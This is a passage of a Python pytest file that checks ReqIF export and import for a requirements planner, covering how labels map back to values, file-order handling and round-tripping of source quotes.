    assert second.title == SERVICE_DE  # ReqIF.ChapterName when there is no ReqIF.Name
    assert second.priority == "High"  # unknown: kept as written for the caller to report
    assert second.goals == (COMPLAINTS_48H,)  # a relation written the other way round


@pytest.mark.parametrize(
    ("labels", "field"),
    [(PRIORITY_LABELS, "priority"), (TYPE_LABELS, "type"), (STATUS_LABELS, "status")],
)
def test_the_registers_own_labels_and_values_are_understood(
    labels: dict[object, object], field: str
) -> None:
    """The labels of records.py (English outside a request) map back to their values, so a
    file whose enumeration says "Won't have this time" or "Non-functional" imports cleanly."""
    spellings: list[tuple[str, str]] = []
    for member, label in labels.items():
        value = str(member)
        spellings += [(str(label), value), (value, value), (value.upper(), value)]
    records = [
        RequirementRecord(key=f"REQ-{n:03d}", title="t", **{field: text})
        for n, (text, _) in enumerate(spellings, start=1)
    ]

    back = import_reqif(export(records)).records

    assert [getattr(r, field) for r in back] == [value for _, value in spellings]


def _drop(data: bytes, predicate: Callable[[Element], bool]) -> bytes:
    root = fromstring(data)
    for parent in list(root.iter()):
        for child in list(parent):
            if predicate(child):
                parent.remove(child)
    return tostring(root)


def test_requirements_outside_any_specification_come_after_in_file_order() -> None:
    data = _drop(export(), lambda e: e.tag == f"{{{REQIF_NS}}}SPECIFICATIONS")

    assert import_reqif(data).records == RECORDS


def test_sources_travel_as_quotes_and_come_back():
    """Where a requirement came from goes to other tools as "Source quote" objects linked by
    "quotes", and reads back as it was (an import does not make answers from it)."""
    from planner.requirements.records import RequirementRecord
    from planner.requirements.reqif import export_reqif
    from planner.requirements.reqif_read import import_reqif

    record = RequirementRecord(
        key="REQ-001",
        title="Complaint handling",
        departments=("Customer service",),
        sources=("Interview with 王丽 (Customer service), 2026-11-02: 投诉通过电话进来",),
    )
    data = export_reqif([record], title="t", identifier="i", created=CREATED)
    assert b"Source quote" in data and b"quotes" in data
    (back,) = import_reqif(data).records
    assert back == record and back.sources == record.sources
